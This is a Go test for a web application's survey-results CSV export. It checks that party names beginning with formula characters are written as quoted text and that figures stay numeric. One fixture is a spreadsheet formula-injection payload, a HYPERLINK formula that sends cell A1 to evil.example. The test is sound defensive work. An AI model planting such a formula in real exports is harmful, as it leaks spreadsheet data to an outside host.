package server_test

import (
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/accord-alliance/accord/internal/accord"
	"github.com/accord-alliance/accord/internal/store"
)

// TestHealthExportNeutralisesFormulas: the survey results' CSV export
// writes a text cell a spreadsheet would run as a formula (here parties
// whose names start with = and @) as text, and its figures as numbers.
func TestHealthExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for _, d := range []store.Dialect{store.SQLite, store.Postgres} {
		t.Run(string(d), func(t *testing.T) {
			a := newApp(t, d)
			al := mustAlliance(t, a)
			ps, err := a.db.ListParties(context.Background(), al.ID)
			if err != nil {
				t.Fatal(err)
			}
			names := map[accord.PartyRole]string{accord.PartyInvestor: `=HYPERLINK("https://evil.example/?"&A1)`, accord.PartyVendor: "@SUM(A1:A9)"}
			q := "UPDATE organizations SET name = ? WHERE id = ?"
			if d == store.Postgres {
				q = "UPDATE organizations SET name = $1 WHERE id = $2"
			}
			for _, p := range ps {
				if name, ok := names[p.Role]; ok {
					if _, err := a.db.SQL().Exec(q, name, p.OrgID); err != nil {
						t.Fatal(err)
					}
				}
			}
			_, body := a.get(a.login(roleAccounts["member"]), "/a/north-valley/health/results.csv")
			rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil || len(rows) < 2 {
				t.Fatalf("CSV: %d rows, %v\n%s", len(rows), err, body)
			}
			seen := map[string]bool{}
			for _, r := range rows[1:] {
				for i, cell := range r {
					if i >= 5 && i <= 9 {
						continue // the answers and the figures: numbers
					}
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("row %v: cell %d %q is not neutralised", r, i, cell)
					}
				}
				seen[r[3]] = true
				for _, cell := range r[5:10] {
					if _, err := strconv.ParseFloat(cell, 64); cell != "" && err != nil {
						t.Errorf("row %v: figure %q is not a number", r, cell)
					}
				}
			}
			for _, name := range names {
				if !seen["'"+name] {
					t.Errorf("no row of the party %q, written as text", name)
				}
			}
		})
	}
}
